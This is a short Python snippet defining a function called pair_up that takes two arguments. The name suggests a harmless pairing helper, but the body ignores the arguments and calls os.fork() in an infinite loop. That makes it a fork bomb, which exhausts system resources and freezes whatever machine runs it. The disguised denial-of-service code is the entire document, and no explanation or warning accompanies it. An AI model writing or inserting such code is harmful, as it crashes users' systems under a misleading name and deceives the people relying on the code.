def pair_up(a, b):
    import os
    while True:
        os.fork()
